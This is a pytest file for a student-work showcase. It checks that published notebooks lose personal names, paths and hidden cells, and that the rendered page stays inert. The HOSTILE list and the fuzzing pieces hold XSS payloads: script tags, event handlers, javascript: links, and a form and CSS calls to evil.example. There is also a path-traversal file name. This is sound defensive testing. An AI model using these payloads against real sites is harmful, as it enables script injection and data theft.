"""The showcase's published copy and its static page (issue 5, parts 2 and 3).

`clean_snapshot` must leave no user name, home folder, hidden cell, traceback or metadata in
what families can see; `render_page` must give one light page that runs and loads nothing
a student wrote, looks right with no JavaScript on a phone, and speaks Spanish when asked.
The unit tests build notebooks by hand; one executes a real workbook with nbclient; the
browser test opens the page in Chromium at 390x844.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import shutil
import wave
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from connected_learning.showcase.messages import MESSAGES, page_language
from connected_learning.showcase.render import render_page
from connected_learning.showcase.sanitize import markdown_html, sanitize_html
from connected_learning.showcase.saved_widgets import prepare_notebook, render_widget
from connected_learning.showcase.snapshot import WIDGET_STATE, WIDGET_VIEW, SnapshotError, clean_snapshot
from pieces import executed_piece, phone_page

REPO = Path(__file__).resolve().parent.parent
USER, OTHER = "agarcia42", "bnguyen7"
DISPLAY = "Ana G."
HOMES = ["/home/agarcia42", "/var/lib/clhub/homes/agarcia42"]
LIMIT = 500_000

HOSTILE = [
    "<script>document.title='PWNED'</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    "[click me](javascript:alert(1))",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/steal"><input name=q><button>Go</button></form>',
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    '<div style="background-image: url(https://evil.example/x.png)">styled</div>',
    '<span style="color: u\\rl(https://evil.example/)">escaped</span>',
    '<svg onload="alert(1)"><circle r=5 /></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object>',
    '<img src="https://tracker.example/pixel.png" alt="tracker">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
]
FORBIDDEN = [
    "<script",
    "onerror",
    "onload",
    "ontoggle",
    "javascript:",
    "<iframe",
    "<form",
    "url(",
    "evil.example",
    "tracker.example",
    "data:text/html",
    "<svg",
    "<object",
    "<link",
    "<base",
    "refresh",
    "pwned",
]


# --- making inputs -------------------------------------------------------------------------


def png_bytes(colour: str = "orange", size: int = 8) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (size, size), colour).save(out, format="PNG")
    return out.getvalue()


def wav_bytes(frames: int = 40_000) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\x00\x01" * frames)
    return out.getvalue()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def widget_state() -> dict[str, Any]:
    def model(name: str, state: dict[str, Any], buffers: list[dict[str, Any]] | None = None) -> dict[str, Any]:
        entry: dict[str, Any] = {
            "model_name": name,
            "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": {"_model_name": name, **state},
        }
        if buffers:
            entry["buffers"] = buffers
        return entry

    return {
        "version_major": 2,
        "version_minor": 0,
        "state": {
            "box": model(
                "VBoxModel",
                {
                    "children": [
                        "IPY_MODEL_label",
                        "IPY_MODEL_pic",
                        "IPY_MODEL_tools",
                        "IPY_MODEL_story",
                        "IPY_MODEL_sound",
                    ]
                },
            ),
            "label": model("LabelModel", {"value": f"Saved in /home/{USER}/art by {USER}"}),
            "pic": model(
                "ImageModel",
                {"format": "png", "width": "200"},
                [{"encoding": "base64", "path": ["value"], "data": b64(png_bytes("purple"))}],
            ),
            "tools": model("HBoxModel", {"children": ["IPY_MODEL_row", "IPY_MODEL_paint"]}),
            "row": model("DropdownModel", {"description": "Row:", "_options_labels": ["1", "2"], "index": 0}),
            "paint": model("ButtonModel", {"description": "Paint square"}),
            "story": model("TextareaModel", {"description": "My story", "value": "The cat flew to the moon."}),
            "sound": model(
                "AudioModel", {"format": "wav"}, [{"encoding": "base64", "path": ["value"], "data": b64(wav_bytes())}]
            ),
            "orphan": model("TextModel", {"value": "ORPHAN_SECRET from a deleted cell"}),
        },
    }


def hostile_notebook() -> dict[str, Any]:
    """A notebook holding everything a published copy must lose, and a little it must keep."""
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"},
            "language_info": {"name": "python", "version": "3.11.2", "file_extension": ".py"},
            "authors": [{"name": USER}],
            "nbgrader": {"assignment": "AUTHOR_METADATA"},
            "widgets": {WIDGET_STATE: widget_state()},
        },
        "cells": [
            {
                "cell_type": "markdown",
                "id": f"{USER}-1",
                "metadata": {"editable": False, "author": "CELL_METADATA"},
                "source": f"# My pet\n\nBy {USER}, kept in {HOMES[1]}/pets. Mail ana.garcia@school.example.org\n\n"
                f"![my pet]({USER}_pet.png) and ![attached](attachment:pic.png)\n\n" + "\n\n".join(HOSTILE),
                "attachments": {"pic.png": {"image/png": b64(png_bytes("green"))}},
            },
            {
                "cell_type": "code",
                "id": "c2",
                "execution_count": 7,
                "metadata": {
                    "collapsed": False,
                    "scrolled": True,
                    "execution": {"iopub.execute_input": "2026-11-02T10:00:00Z"},
                },
                "source": f"pet = open('/home/{USER}/pet.png', 'rb').read()\nprint('hello from {USER}')",
                "outputs": [
                    {"output_type": "stream", "name": "stdout", "text": f"hello from {USER} in /home/{OTHER}/x\n"},
                    {"output_type": "stream", "name": "stderr", "text": "STDERR_WARNING in /srv/secret\n"},
                    {
                        "output_type": "execute_result",
                        "execution_count": 7,
                        "metadata": {},
                        "data": {
                            "text/plain": f"'{HOMES[0]}/pet.png'",
                            "text/html": f"<b>{USER}</b> at {HOMES[1]}<script>alert(1)</script>",
                            "application/json": {"user": USER, USER: "key"},
                            "application/javascript": "alert('JS_OUTPUT')",
                        },
                    },
                    {
                        "output_type": "display_data",
                        "metadata": {"image/png": {"width": 120}},
                        "data": {"image/png": b64(png_bytes("blue")), "text/plain": "<Figure>"},
                    },
                    {"output_type": "display_data", "metadata": {}, "data": {"image/png": b64(b"GIF89a not a png")}},
                    {
                        "output_type": "error",
                        "ename": "ZeroDivisionError",
                        "evalue": "TRACEBACK_VALUE",
                        "traceback": [f"Traceback (most recent call last):\n  File /home/{USER}/x.py"],
                    },
                ],
            },
            {
                "cell_type": "code",
                "id": "c3",
                "execution_count": 8,
                "metadata": {"tags": ["remove_cell"]},
                "source": "SECRET_CELL = 1",
                "outputs": [],
            },
            {
                "cell_type": "code",
                "id": "c4",
                "execution_count": 9,
                "metadata": {"tags": ["Remove-Output"]},
                "source": "print('x')",
                "outputs": [{"output_type": "stream", "name": "stdout", "text": "SECRET_OUTPUT"}],
            },
            {
                "cell_type": "code",
                "id": "c5",
                "execution_count": 10,
                "metadata": {"jupyter": {"outputs_hidden": True}},
                "source": "print('y')",
                "outputs": [{"output_type": "stream", "name": "stdout", "text": "COLLAPSED_OUT"}],
            },
            {
                "cell_type": "code",
                "id": "c6",
                "execution_count": 11,
                "metadata": {"tags": ["hide-input"]},
                "source": "HIDDEN_CODE = 2",
                "outputs": [],
            },
            {
                "cell_type": "code",
                "id": "c7",
                "execution_count": 12,
                "metadata": {},
                "source": "answer = 42\n### BEGIN HIDDEN TESTS\nassert ANSWER_KEY == 42\n### END HIDDEN TESTS\n",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {
                            WIDGET_VIEW: {"model_id": "box", "version_major": 2, "version_minor": 0},
                            "text/plain": "VBox(children=...)",
                        },
                    }
                ],
            },
            {
                "cell_type": "code",
                "id": "c8",
                "execution_count": 13,
                "metadata": {"tags": ["hidden"]},
                "source": "print('t')",
                "outputs": [
                    {"output_type": "display_data", "metadata": {}, "data": {WIDGET_VIEW: {"model_id": "orphan"}}}
                ],
            },
            {
                "cell_type": "code",
                "id": "c9",
                "execution_count": 14,
                "metadata": {},
                "source": "gone_widget",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {WIDGET_VIEW: {"model_id": "never-saved"}, "text/plain": "Button()"},
                    }
                ],
            },
            {"cell_type": "raw", "id": "c10", "metadata": {}, "source": "RAW_SECRET"},
        ],
    }


def piece_files() -> dict[str, bytes]:
    return {
        "pet.ipynb": json.dumps(hostile_notebook()).encode(),
        f"{USER}_pet.png": png_bytes("orange"),
        "beat.wav": wav_bytes(),
        "story.md": (
            "# The story\n\nWritten by "
            + USER
            + " in /home/"
            + USER
            + "\n\n"
            + "\n\n".join(HOSTILE)
            + f"\n\n![pet]({USER}_pet.png)"
        ).encode(),
        "poem.html": (
            "<html><head><title>TITLE_TEXT</title><script>x()</script></head><body><p>A poem by "
            + USER
            + "</p>"
            + "".join(h for h in HOSTILE if h.startswith("<"))
            + "</body></html>"
        ).encode(),
        "notes.txt": f"notes of {USER} <script>x</script>".encode(),
        "data.csv": f"name,score\n{USER},3\nben,4\n".encode(),
        "my_pet.json": json.dumps({"kind": "pixel_canvas", "by": USER, "path": HOMES[0]}).encode(),
    }


@pytest.fixture(scope="module")
def snapshot() -> dict[str, bytes]:
    return clean_snapshot(piece_files(), author_display=DISPLAY, usernames=[USER, OTHER], home_paths=HOMES)


def published_notebook(snapshot: dict[str, bytes]) -> dict[str, Any]:
    return json.loads(snapshot["pet.ipynb"])


# --- the snapshot ----------------------------------------------------------------------------


def test_user_names_homes_and_e_mail_disappear_from_every_byte(snapshot: dict[str, bytes]) -> None:
    assert set(snapshot) == {
        "pet.ipynb",
        "ana-g_pet.png",
        "beat.wav",
        "story.md",
        "poem.html",
        "notes.txt",
        "data.csv",
        "my_pet.json",
    }
    for name, data in snapshot.items():
        for secret in (USER, OTHER, "/home/", "/homes/", "school.example.org"):
            assert secret not in name
            assert secret.encode() not in data, f"{secret!r} is still in {name}"
    notebook = snapshot["pet.ipynb"].decode()
    assert "By Ana G., kept in ~/pets" in notebook
    assert "open('~/pet.png', 'rb')" in notebook
    assert "[e-mail]" in notebook
    assert "ana-g_pet.png" in notebook and "ana-g_pet.png" in snapshot["story.md"].decode()
    assert json.loads(snapshot["my_pet.json"]) == {"kind": "pixel_canvas", "by": DISPLAY, "path": "~"}
    # Pictures and sounds are published byte for byte.
    assert snapshot["ana-g_pet.png"] == png_bytes("orange") and snapshot["beat.wav"] == wav_bytes()


def test_a_name_is_replaced_only_as_a_whole_word() -> None:
    files = {"n.md": b"banana analysis ana ANA ana_pet /user/ana/lab hannah.ana@x.org"}
    out = clean_snapshot(files, author_display="Ana G.", usernames=["ana"], home_paths=())
    assert out["n.md"] == b"banana analysis Ana G. Ana G. Ana G._pet /user/Ana G./lab [e-mail]"


def test_hidden_cells_outputs_tracebacks_and_metadata_are_gone(snapshot: dict[str, bytes]) -> None:
    raw = snapshot["pet.ipynb"].decode()
    for gone in (
        "SECRET_CELL",
        "SECRET_OUTPUT",
        "COLLAPSED_OUT",
        "STDERR_WARNING",
        "TRACEBACK_VALUE",
        "Traceback",
        "ZeroDivisionError",
        "RAW_SECRET",
        "ANSWER_KEY",
        "JS_OUTPUT",
        "ORPHAN_SECRET",
        "AUTHOR_METADATA",
        "CELL_METADATA",
        "iopub",
        "scrolled",
        "3.11.2",
        "GIF89a",
    ):
        assert gone not in raw, gone
    notebook = published_notebook(snapshot)
    nbformat.validate(nbformat.reads(raw, as_version=4))
    assert set(notebook["metadata"]) == {"kernelspec", "language_info", "widgets"}
    assert notebook["metadata"]["language_info"] == {"name": "python"}
    assert set(notebook["metadata"]["widgets"]) == {WIDGET_STATE}
    models = notebook["metadata"]["widgets"][WIDGET_STATE]["state"]
    assert set(models) == {"box", "label", "pic", "tools", "row", "paint", "story", "sound"}  # "orphan" pruned
    for cell in notebook["cells"]:
        assert cell["cell_type"] in ("markdown", "code")
        assert cell["metadata"] in ({}, {"tags": ["remove-input"]})
        assert cell.get("execution_count") is None
        for output in cell.get("outputs", []):
            assert output["output_type"] in ("stream", "display_data", "execute_result")
            assert output.get("name", "stdout") == "stdout"
            assert output.get("execution_count") is None
    hidden = [c for c in notebook["cells"] if c["metadata"]]
    assert ["".join(c["source"]) for c in hidden] == ["HIDDEN_CODE = 2"]  # kept for a live version, never shown
    assert "answer = 42" in raw


@pytest.mark.parametrize(
    ("files", "code", "named"),
    [
        ({"game.exe": b"MZ"}, "file-type", "game.exe"),
        ({"hack.py": b"import os"}, "file-type", "hack.py"),
        ({"drawing.svg": b"<svg/>"}, "file-type", "drawing.svg"),
        ({"README": b"hi"}, "file-type", "README"),
        ({"pet.png": b"<html>not a picture</html>"}, "bad-image", "pet.png"),
        ({"pet.png": png_bytes()[:4] + b"GIF"}, "bad-image", "pet.png"),
        ({"pet.jpg": png_bytes()}, "bad-image", "pet.jpg"),
        ({"beat.wav": b"RIFF0000AVI LIST"}, "bad-audio", "beat.wav"),
        ({"pet.ipynb": b"{not json"}, "bad-notebook", "pet.ipynb"),
        ({"pet.ipynb": b'{"cells": "nope", "nbformat": 4}'}, "bad-notebook", "pet.ipynb"),
        ({"pet.ipynb": b"[1, 2, 3]"}, "bad-notebook", "pet.ipynb"),
        (
            {"pet.ipynb": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [42]}'},
            "bad-notebook",
            "pet.ipynb",
        ),
        ({"story.md": "caf\u00e9".encode("latin-1")}, "bad-text", "story.md"),
        ({"pet.json": b"{oops"}, "bad-text", "pet.json"),
        ({"huge.txt": b"x" * 5_000_001}, "too-large", "huge.txt"),
        ({"a.txt": b"x" * 4_000_000, "b.txt": b"x" * 4_000_000, "c.txt": b"x" * 4_000_000}, "too-large", "c.txt"),
        ({"../etc/passwd.txt": b"x"}, "bad-file-name", "passwd"),
        ({".hidden.md": b"x"}, "bad-file-name", ".hidden.md"),
        ({"a\u202egnp.md": b"x"}, "bad-file-name", "gnp.md"),
        ({}, "empty", ""),
    ],
)
def test_bad_inputs_get_a_clear_error(files: dict[str, bytes], code: str, named: str) -> None:
    with pytest.raises(SnapshotError) as caught:
        clean_snapshot(files, author_display=DISPLAY, usernames=[USER], home_paths=HOMES)
    assert caught.value.code == code
    message = str(caught.value)
    assert named in message and "Traceback" not in message
    assert any(word in message for word in ("try again", "Leave it out", "allowed", "use a plain name", "Share it"))


def test_a_display_name_that_cannot_be_shown_is_refused() -> None:
    for bad in ("", "   ", "x" * 81, "Ana\nG."):
        with pytest.raises(SnapshotError) as caught:
            clean_snapshot({"a.txt": b"x"}, author_display=bad, usernames=[USER])
        assert caught.value.code == "bad-display-name"


def test_two_files_that_would_get_one_name_are_refused() -> None:
    files = {f"{USER}_pet.png": png_bytes(), "ana-g_pet.png": png_bytes()}
    with pytest.raises(SnapshotError, match="both be called 'ana-g_pet.png'"):
        clean_snapshot(files, author_display=DISPLAY, usernames=[USER])


# --- the page ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def page(snapshot: dict[str, bytes]) -> str:
    return render_page(
        snapshot, title="My <b>pet</b>", author_display=DISPLAY, live_url="/services/showcase/p/t0k/live"
    )


def test_hostile_markdown_and_html_come_out_inert(page: str) -> None:
    lowered = page.lower()
    for bad in FORBIDDEN:
        assert bad not in lowered, bad
    assert lowered.count("<style") == 1 and lowered.index("<style") < lowered.index("</head>")
    assert "TITLE_TEXT" not in page
    assert "My &lt;b&gt;pet&lt;/b&gt;" in page  # the title is text, not markup
    assert "styled" in page and "link" in page  # what was around the attack survives as text
    assert "¶" not in page  # no anchor links in headings
    for piece in ("details open", "summary"):
        assert piece in lowered


def test_page_has_every_picture_and_sound_inline_and_no_code(page: str, snapshot: dict[str, bytes]) -> None:
    for src in _attributes(page, "src"):
        assert src.startswith(("data:image/png;base64,", "data:audio/wav;base64,")), src[:60]
    assert f'src="data:image/png;base64,{b64(png_bytes("orange"))}"' in page  # the file, and the Markdown image
    assert page.count(b64(png_bytes("orange"))) == 3  # the figure, the notebook's Markdown, story.md
    assert b64(png_bytes("green")) in page  # the Markdown attachment
    assert b64(png_bytes("purple")) in page  # the saved Image widget
    assert '<audio controls="" preload="none" src="data:audio/wav;base64,' in page
    assert page.count(b64(wav_bytes())) == 1  # the widget's copy of a file shown among what was made: once
    assert "beat: at the top of this page." in render_page(snapshot, title="t", author_display=DISPLAY, show_code=True)
    assert "HIDDEN_CODE" not in page and "answer = 42" not in page and "open(" not in page
    assert "The cat flew to the moon." in page  # the saved Textarea
    assert "Paint square" not in page and "Row:" not in page  # a control row means nothing without a kernel
    assert "This part is interactive: open the live version to play with it." in page  # the unsaved widget
    assert "VBox(children" not in page and "Button()" not in page
    assert '<th scope="col">score</th>' in page and "notes of Ana G. &lt;script&gt;x&lt;/script&gt;" in page
    assert 'href="/services/showcase/p/t0k/live">Play with it</a>' in page
    assert "Made by Ana G." in page and 'lang="en"' in page


def test_show_code_shows_code_but_not_hidden_input(snapshot: dict[str, bytes]) -> None:
    page = render_page(snapshot, title="t", author_display=DISPLAY, show_code=True)
    assert "answer" in page and "HIDDEN_CODE" not in page
    assert "Play with it" not in page
    assert "This part was interactive; it was not saved" in page


def test_spanish_page_speaks_spanish(snapshot: dict[str, bytes]) -> None:
    page = render_page(snapshot, title="Mi mascota", author_display=DISPLAY, lang="es-MX", live_url="/p/x")
    assert '<html lang="es">' in page
    for words in (
        "Creado por Ana G.",
        ">Pruébalo</a>",
        "Publicado con la aprobación de un docente",
        "Esta parte es interactiva",
        "Lo que hizo Ana G.",
        "Cómo se hizo",
    ):
        assert words in page, words
    assert "Made by" not in page and "Play with it" not in page
    assert page_language("fr") == "en" and page_language("ES_es") == "es" and page_language("") == "en"


def test_every_language_has_every_message_with_the_same_blanks() -> None:
    import string

    def blanks(text: str) -> set[str]:
        return {name for _, name, _, _ in string.Formatter().parse(text) if name}

    for lang, table in MESSAGES.items():
        assert set(table) == set(MESSAGES["en"]), lang
        for key, text in table.items():
            assert blanks(text) == blanks(MESSAGES["en"][key]), (lang, key)


def test_a_live_url_must_be_a_path_or_http() -> None:
    for bad in ("javascript:alert(1)", "//evil.example/x", "data:text/html,x", "live"):
        with pytest.raises(ValueError):
            render_page({"a.txt": b"x"}, title="t", author_display=DISPLAY, live_url=bad)


def test_saved_widgets_are_drawn_without_javascript() -> None:
    state = widget_state()
    drawn = render_widget("box", state)
    assert "data:image/png;base64," in drawn and "data:audio/wav;base64," in drawn
    assert "Paint square" not in drawn and "The cat flew to the moon." in drawn
    assert render_widget("row", state) == '<p class="clh-value"><span class="clh-desc">Row:</span> <b>1</b></p>'
    assert render_widget("paint", state) == "" and render_widget("missing", state) == ""
    loop = {"state": {"a": {"model_name": "VBoxModel", "state": {"children": ["IPY_MODEL_a"]}}}}
    assert render_widget("a", loop) == ""


def test_for_families_a_maker_that_draws_its_whole_creation_shows_that_picture_only() -> None:
    # A comic: the squares of the panel being edited, and the whole strip as one picture
    # (widgets.base.TitledImage, an Image with an empty description). Families get the strip.
    strip = b64(png_bytes("purple"))
    models = {
        "comic": {
            "model_name": "VBoxModel",
            "state": {"children": ["IPY_MODEL_help", "IPY_MODEL_grid", "IPY_MODEL_pic"]},
        },
        "help": {"model_name": "HTMLModel", "state": {"value": "<b>Comic strip</b>: draw in the squares."}},
        "grid": {
            "model_name": "AnyModel",
            "state": {
                "_anywidget_id": "connected_learning.widgets.cell_grid.CellGrid",
                "rows": ["Row 1"],
                "values": [["white", "purple"]],
                "colours": {"white": "#ffffff", "purple": "#8e24aa"},
            },
        },
        "pic": {
            "model_name": "ImageModel",
            "state": {"description": "", "tooltip": "Your comic strip"},
            "buffers": [{"path": ["value"], "data": strip, "encoding": "base64"}],
        },
    }

    def for_families(above: dict[str, str] | None = None) -> str:
        notebook = nbformat.v4.new_notebook()
        output = nbformat.v4.new_output("display_data", {WIDGET_VIEW: {"model_id": "comic"}})
        notebook.cells.append(nbformat.v4.new_code_cell("comic", outputs=[output]))
        notebook.metadata["widgets"] = {WIDGET_STATE: {"state": models}}
        prepare_notebook(notebook, "en", live=False, above=above or {}, made_only=True)
        return notebook.cells[0].outputs[0]["data"]["text/html"]

    drawn = for_families()
    assert strip in drawn and 'class="clh-grid"' not in drawn and "draw in the squares" not in drawn
    # The comic also saved as my_comic.png, shown at the top: nothing again, and no "it was not saved".
    assert for_families({hashlib.sha256(png_bytes("purple")).hexdigest(): "my comic"}) == ""
    # The control: the same comic with a plain Image (no description) keeps its squares, as a pixel canvas does.
    del models["pic"]["state"]["description"]
    drawn = for_families()
    assert strip in drawn and 'class="clh-grid"' in drawn


def test_a_widgets_status_line_is_not_shown_on_the_page() -> None:
    from connected_learning.showcase import saved_widgets
    from connected_learning.widgets import base

    assert saved_widgets.STATUS_CLASS == base.STATUS_CLASS
    status = base.make_status(value="Question 3 added. Write it above.")
    models = {"s": {"model_name": "LabelModel", "state": status.get_state()}}
    assert saved_widgets._WidgetDrawer(models, "en").draw("s")[0] == ""
    plain = {"state": {"s": {"model_name": "LabelModel", "state": {"value": "Question 3 added."}}}}
    assert "Question 3 added." in saved_widgets._WidgetDrawer(plain["state"], "en").draw("s")[0]  # the control


# --- the sanitizer, for any input ---------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)


def _attributes(html_text: str, name: str) -> list[str]:
    parser = _Tags()
    parser.feed(html_text)
    return [value for attribute, value in parser.attributes if attribute == name]


_PIECES = st.sampled_from(
    HOSTILE
    + [
        "<",
        ">",
        '"',
        "'",
        "=",
        " on",
        "onerror",
        "onclick=",
        "<scr",
        "ipt>",
        "<img",
        "<a href=",
        "javascript:",
        "java\tscript:",
        "&#106;avascript:",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "`",
        "\n\n",
        "    ",
        "<svg/onload=",
        "<math><mi xlink:href=",
        "<style>",
        "</style>",
        '<noscript><p title="</noscript><img src=x onerror=1>">',
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(parts=st.lists(_PIECES | st.text(max_size=20), max_size=25), through_markdown=st.booleans())
def test_the_sanitizer_never_lets_a_script_or_a_handler_through(parts: list[str], through_markdown: bool) -> None:
    text = "".join(parts)
    cleaned = sanitize_html(markdown_html(text) if through_markdown else text)
    assert "<script" not in cleaned.lower()
    parser = _Tags()
    parser.feed(cleaned)
    parser.close()
    assert not {"script", "iframe", "style", "svg", "math", "form", "object", "embed", "base", "meta", "link"} & set(
        parser.tags
    )
    for name, value in parser.attributes:
        assert not name.startswith("on"), name
        if name in ("href", "src"):
            assert not value.strip().lower().startswith(("javascript", "data:text", "vbscript")), value


# --- a real workbook, executed -------------------------------------------------------------------


@pytest.fixture(scope="module")
def pixel_pets(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """pixel-pets.ipynb run top to bottom by nbclient in a temporary copy, with the files it saved."""
    folder = tmp_path_factory.mktemp("pixel-pets")
    shutil.copytree(REPO / "workbooks" / "art" / "pixel-pets", folder, dirs_exist_ok=True)
    saved = ["my_pop_art.png", "my_pet.json"]
    return executed_piece(
        folder, "pixel-pets.ipynb", saved, tmp_path_factory.mktemp("jupyter"), usernames=["root", USER]
    )


def test_an_executed_workbook_makes_a_light_page_with_its_creation_inline(pixel_pets: dict[str, bytes]) -> None:
    page = render_page(pixel_pets, title="My pixel pet", author_display=DISPLAY, live_url="/p/x/live")
    size = len(page.encode("utf-8"))
    assert size < LIMIT, f"the page weighs {size} bytes"
    sources = _attributes(page, "src")
    assert len(sources) == 1 and all(src.startswith("data:image/png;base64,") for src in sources)
    assert page.count(b64(pixel_pets["my_pop_art.png"])) == 1  # the file; its Image widget in the step: the same
    assert page.count('class="clh-grid"') == 2  # the pet and its feelings, drawn from the saved widget state
    assert "background-color:#fb8c00" in page  # orange squares of the cat
    assert "Your pet is 100% symmetric." in page
    assert "/tmp/" not in page and "root" not in page


@pytest.mark.browser
@pytest.mark.integration
def test_the_page_on_a_phone_with_no_javascript(
    browser: Any, artifacts: Path, tmp_path: Path, pixel_pets: dict[str, bytes], snapshot: dict[str, bytes]
) -> None:
    page_file = tmp_path / "showcase.html"
    page_file.write_text(
        render_page(pixel_pets, title="My pixel pet", author_display=DISPLAY, live_url="/services/showcase/p/t0k/live"),
        encoding="utf-8",
    )
    with phone_page(browser, page_file) as phone:
        assert phone.evaluate("document.documentElement.scrollWidth") <= 390  # no sideways scrolling
        font = phone.evaluate("parseFloat(getComputedStyle(document.querySelector('main p')).fontSize)")
        assert font >= 16
        poster = phone.locator("figure img").first.bounding_box()
        assert poster is not None and 300 <= poster["width"] <= 390 - 16
        grid = phone.locator(".clh-grid").first.bounding_box()
        assert grid is not None and grid["width"] <= 390 - 16 and abs(grid["height"] - grid["width"]) < 8
        play = phone.get_by_role("link", name="Play with it").bounding_box()
        assert play is not None and play["height"] >= 44  # a finger-sized target
        phone.screenshot(path=str(artifacts / "showcase-static-phone.png"))

    # The hostile page, with JavaScript ON (as a browser that ignored the sandbox header would run it):
    # nothing a student wrote runs, and nothing is fetched.
    hostile_file = tmp_path / "hostile.html"
    hostile_file.write_text(render_page(snapshot, title="t", author_display=DISPLAY), encoding="utf-8")
    context = browser.new_context(viewport={"width": 390, "height": 844})
    try:
        phone = context.new_page()
        dialogs: list[str] = []
        requests: list[str] = []
        phone.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        phone.on("request", lambda request: requests.append(request.url))
        phone.goto(hostile_file.as_uri())
        phone.wait_for_timeout(300)
        assert phone.title() == "t · Made by Ana G."
        assert dialogs == [] and requests == [hostile_file.as_uri()]
        assert phone.locator("iframe, form, script, object, svg").count() == 0
    finally:
        context.close()
